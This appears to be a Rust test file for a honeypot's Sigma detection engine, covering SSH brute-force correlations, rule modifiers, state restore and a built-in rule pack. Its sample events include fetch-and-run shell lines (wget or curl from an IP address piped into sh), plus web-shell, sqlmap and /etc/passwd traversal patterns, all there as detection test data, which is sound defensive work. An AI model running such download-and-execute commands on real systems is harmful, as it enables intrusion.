//! What Nectar relies on from the Sigma engine, pinned so the engine can be
//! swapped: logsource routing of the views, modifiers, conditions, filters,
//! correlations on event time with restartable state, and the built-in pack.

use std::collections::HashSet;

use nectar_event::{Event, Kind, Severity, Timestamp};
use nectar_rules::{EngineLimits, Match, RuleEngine, RuleSet, SigmaEngine};
use serde_json::json;

fn engine(yaml: &str) -> SigmaEngine {
    let mut set = RuleSet::default();
    set.add_text("test.yml", yaml, &HashSet::new());
    assert!(set.errors.is_empty(), "{:?}", set.errors);
    let (engine, errors) = SigmaEngine::new(&set, EngineLimits::default());
    assert!(errors.is_empty(), "{errors:?}");
    engine
}

fn failed_login(src: &str, second: i64) -> Event {
    let mut e = Event::new("hp", Kind::SshLoginFailed, Severity::Low, "failed")
        .with("username", "root")
        .with("password", "123456");
    e.src_ip = Some(src.parse().unwrap());
    e.time = Timestamp::from_micros(1_800_000_000_000_000 + second * 1_000_000).unwrap();
    e
}

fn run(engine: &mut SigmaEngine, event: &Event) -> Vec<Match> {
    let mut out = Vec::new();
    engine.process(event, &mut out);
    out
}

const BRUTE: &str = r#"
title: failed
name: failed
logsource: {product: nectar, service: ssh}
detection:
    sel: {kind: ssh.login.failed}
    condition: sel
---
title: Brute force
id: brute
correlation:
    type: event_count
    rules: [failed]
    group-by: [src_ip]
    timespan: 5m
    condition: {gte: 5}
level: high
tags: [attack.t1110.001]
"#;

#[test]
fn a_count_correlation_fires_at_n_and_again_after_per_source() {
    let mut e = engine(BRUTE);
    for i in 0..4 {
        let m = run(&mut e, &failed_login("203.0.113.7", i));
        assert!(m.is_empty(), "{i} {m:?}");
    }
    // Another source does not add up with the first.
    assert!(run(&mut e, &failed_login("198.51.100.1", 4)).is_empty());
    let fifth_event = failed_login("203.0.113.7", 5);
    let fifth = run(&mut e, &fifth_event);
    assert_eq!(fifth.len(), 1, "{fifth:?}");
    let m = &fifth[0];
    assert_eq!(m.rule.id, "brute");
    assert_eq!(m.rule.level, Severity::High);
    assert_eq!(m.rule.techniques, ["T1110.001"]);
    assert_eq!(
        m.group.get("src_ip").map(String::as_str),
        Some("203.0.113.7")
    );
    assert_eq!(m.initial_count, 5);
    assert_eq!(m.earlier_event_ids(fifth_event.id).len(), 4);
    // The sixth fires again (it folds into the alert).
    assert_eq!(run(&mut e, &failed_login("203.0.113.7", 6)).len(), 1);
    // The detection referenced only by the correlation raises nothing itself.
    assert!(fifth.iter().all(|m| m.rule.id == "brute"));
}

#[test]
fn windows_run_on_event_time_not_arrival() {
    let mut e = engine(BRUTE);
    // Five failures 2 minutes apart: never five within 5 minutes.
    for i in 0..5 {
        assert!(run(&mut e, &failed_login("203.0.113.7", i * 120)).is_empty());
    }
}

#[test]
fn exported_state_continues_the_windows_after_a_restart() {
    let mut before = engine(BRUTE);
    for i in 0..3 {
        run(&mut before, &failed_login("203.0.113.7", i));
    }
    let state = before.export_state();
    let mut after = engine(BRUTE);
    assert!(after.import_state(&state));
    assert!(run(&mut after, &failed_login("203.0.113.7", 3)).is_empty());
    assert_eq!(run(&mut after, &failed_login("203.0.113.7", 4)).len(), 1);
    assert!(!after.import_state("{not json"));
}

#[test]
fn value_modifiers_conditions_and_keywords() {
    let mut e = engine(
        r#"
title: modifiers
id: mods
logsource: {product: nectar}
detection:
    a:
        username|startswith: ro
        password|endswith: '456'
        src_ip|cidr: 203.0.113.0/24
    b:
        summary|re: '^fail'
        username|neq: admin
    filter:
        src_ip: 203.0.113.99
    condition: (a and b) and not filter
level: medium
---
title: keywords
id: kw
logsource: {product: nectar}
detection:
    keywords:
        - '123456'
    condition: keywords
---
title: numbers
id: num
logsource: {product: nectar}
detection:
    sel:
        src_port|gt: 1024
        kind|contains|all: [ssh, failed]
    condition: 1 of sel*
"#,
    );
    let mut ev = failed_login("203.0.113.7", 0);
    ev.src_port = Some(40_000);
    let ids: HashSet<String> = run(&mut e, &ev)
        .into_iter()
        .map(|m| m.rule.id.clone())
        .collect();
    assert_eq!(
        ids,
        HashSet::from(["mods".into(), "kw".into(), "num".into()])
    );
    let filtered = failed_login("203.0.113.99", 1);
    let ids: HashSet<String> = run(&mut e, &filtered)
        .into_iter()
        .map(|m| m.rule.id.clone())
        .collect();
    assert!(!ids.contains("mods"), "{ids:?}");
    // A detection groups by source address.
    let m = run(&mut e, &ev)
        .into_iter()
        .find(|m| m.rule.id == "kw")
        .unwrap();
    assert_eq!(
        m.group.get("src_ip").map(String::as_str),
        Some("203.0.113.7")
    );
    assert_eq!(m.initial_count, 1);
}

#[test]
fn public_rule_shapes_run_on_the_mapped_views_only() {
    let mut e = engine(
        r#"
title: Web shell in URI
id: web
logsource: {category: webserver}
detection:
    sel:
        cs-method: GET
        cs-uri-query|contains: cmd=
    condition: sel
---
title: wget download
id: proc
logsource: {product: linux, category: process_creation}
detection:
    sel:
        Image|endswith: /wget
        CommandLine|contains: http
    condition: sel
---
title: Windows only
id: win
logsource: {product: windows, category: process_creation}
detection:
    sel:
        CommandLine|contains: http
    condition: sel
"#,
    );
    let mut web = Event::new("hp", Kind::HttpRequest, Severity::Info, "GET /")
        .with("method", "GET")
        .with("path", "/shell.php")
        .with("query", "cmd=id");
    web.src_ip = Some("198.51.100.4".parse().unwrap());
    let ids: Vec<String> = run(&mut e, &web)
        .into_iter()
        .map(|m| m.rule.id.clone())
        .collect();
    assert_eq!(ids, ["web"]);
    let cmd = Event::new("hp", Kind::SshCommand, Severity::Medium, "")
        .with("input", "wget http://203.0.113.9/x; sh x")
        .with(
            "processes",
            json!([{"image": "/usr/bin/wget", "command_line": "wget http://203.0.113.9/x", "parent_image": "/bin/bash"},
                   {"image": "/usr/bin/sh", "command_line": "sh x", "parent_image": "/bin/bash"}]),
        );
    let ids: Vec<String> = run(&mut e, &cmd)
        .into_iter()
        .map(|m| m.rule.id.clone())
        .collect();
    assert_eq!(ids, ["proc"]);
}

#[test]
fn the_built_in_pack_compiles_and_routes_brute_force() {
    let set = RuleSet::load(&[], &[], true);
    let (mut e, errors) = SigmaEngine::new(&set, EngineLimits::default());
    assert!(errors.is_empty(), "{errors:?}");
    let mut fired = Vec::new();
    for i in 0..12 {
        fired.extend(run(&mut e, &failed_login("203.0.113.7", i)));
    }
    let brute: Vec<&Match> = fired
        .iter()
        .filter(|m| m.rule.id == "nectar.ssh-brute-force")
        .collect();
    assert_eq!(brute.len(), 3, "{fired:?}");
    assert_eq!(brute[0].initial_count, 10);
    let mut ok = Event::new("hp", Kind::SshLoginSuccess, Severity::Medium, "in");
    ok.src_ip = Some("203.0.113.7".parse().unwrap());
    ok.time = Timestamp::from_micros(1_800_000_013_000_000).unwrap();
    let after: Vec<String> = run(&mut e, &ok)
        .into_iter()
        .map(|m| m.rule.id.clone())
        .collect();
    assert!(
        after.contains(&"nectar.login-after-failures".to_owned()),
        "{after:?}"
    );
    let set = RuleSet::load(&[], &["nectar.ssh-brute-force".into()], true);
    assert!(
        set.infos
            .iter()
            .all(|i| i.rule.id != "nectar.ssh-brute-force")
    );
}

#[test]
fn the_pack_reads_a_download_piped_into_a_shell_from_the_command_line() {
    let set = RuleSet::load(&[], &[], true);
    let (mut e, _) = SigmaEngine::new(&set, EngineLimits::default());
    let mut cmd = Event::new("hp", Kind::SshCommand, Severity::Medium, "")
        .with("input", "cd /tmp; curl -s http://198.51.100.9/x.sh | sh");
    cmd.src_ip = Some("198.51.100.1".parse().unwrap());
    let ids: Vec<String> = run(&mut e, &cmd)
        .into_iter()
        .map(|m| m.rule.id.clone())
        .collect();
    assert!(
        ids.contains(&"nectar.shell-download-and-run".to_owned()),
        "{ids:?}"
    );
    let benign = Event::new("hp", Kind::SshCommand, Severity::Medium, "")
        .with("input", "curl -s http://198.51.100.9/x.sh -o x; shasum x");
    assert!(run(&mut e, &benign).is_empty());
}

/// The engine preselects rules from the fields an event has (each partition's
/// rules are indexed at once): a data field is found by its plain name, with
/// the `data.` prefix, as a key holding dots and as a nested path, by value,
/// substring and keyword, however many other rules are loaded.
#[test]
fn rules_are_found_through_every_way_of_naming_a_data_field() {
    let mut yaml = String::new();
    let shapes = [
        ("plain", "agent|contains: sqlmap"),
        ("prefixed", "data.agent|contains: SQLMAP"),
        ("dotted", "http.method: post"),
        ("nested", "req.headers.host|endswith: example.org"),
        ("exact", "agent: 'sqlmap/1.7'"),
    ];
    for (id, line) in shapes {
        yaml.push_str(&format!(
            "---\ntitle: {id}\nid: {id}\nlogsource: {{product: nectar}}\ndetection:\n    sel:\n        {line}\n    condition: sel\nlevel: low\n"
        ));
    }
    yaml.push_str("---\ntitle: keyword\nid: keyword\nlogsource: {product: nectar}\ndetection:\n    kw: ['/etc/passwd']\n    condition: kw\nlevel: low\n");
    // More rules than rsigma's incremental index keeps unindexed.
    for i in 0..100 {
        yaml.push_str(&format!(
            "---\ntitle: other {i}\nid: other-{i}\nlogsource: {{product: nectar}}\ndetection:\n    sel:\n        agent|contains: 'other{i}'\n    condition: sel\nlevel: low\n"
        ));
    }
    let mut e = engine(yaml.trim_start_matches("---\n"));
    let mut event = Event::new("hp", Kind::HttpRequest, Severity::Low, "GET /")
        .with("agent", "sqlmap/1.7")
        .with("http.method", "POST")
        .with("req", json!({"headers": {"host": "www.example.org"}}))
        .with("path", "/../../etc/passwd");
    event.src_ip = Some("203.0.113.5".parse().unwrap());
    let ids: HashSet<String> = run(&mut e, &event)
        .into_iter()
        .map(|m| m.rule.id.clone())
        .collect();
    let want: HashSet<String> = ["plain", "prefixed", "dotted", "nested", "exact", "keyword"]
        .into_iter()
        .map(String::from)
        .collect();
    assert_eq!(ids, want);
}

/// `value_percentile` compares the window's percentile with the condition
/// (rsigma 0.23.0's own engine fired whenever the window held a number).
#[test]
fn a_percentile_correlation_fires_when_the_percentile_passes_its_threshold() {
    let mut e = engine(
        r#"
title: web
id: web
logsource: {product: nectar}
detection:
    sel: {kind: http.request}
    condition: sel
---
title: big responses
id: p90
correlation:
    type: value_percentile
    rules: [web]
    group-by: [src_ip]
    timespan: 10m
    condition: {gte: 900, field: bytes, percentile: 90}
level: medium
"#,
    );
    let request = |second: i64, bytes: i64| {
        let mut ev =
            Event::new("hp", Kind::HttpRequest, Severity::Low, "GET /").with("bytes", bytes);
        ev.src_ip = Some("203.0.113.9".parse().unwrap());
        ev.time = Timestamp::from_micros(1_800_000_000_000_000 + second * 1_000_000).unwrap();
        ev
    };
    let fired = |e: &mut SigmaEngine, ev: &Event| run(e, ev).iter().any(|m| m.rule.id == "p90");
    // Nine small responses: the 90th percentile stays small.
    for i in 0..9 {
        assert!(!fired(&mut e, &request(i, 100)), "fired at {i}");
    }
    // Large ones lift it past 900.
    let mut lifted = false;
    for i in 9..20 {
        lifted |= fired(&mut e, &request(i, 5_000));
    }
    assert!(lifted);
}
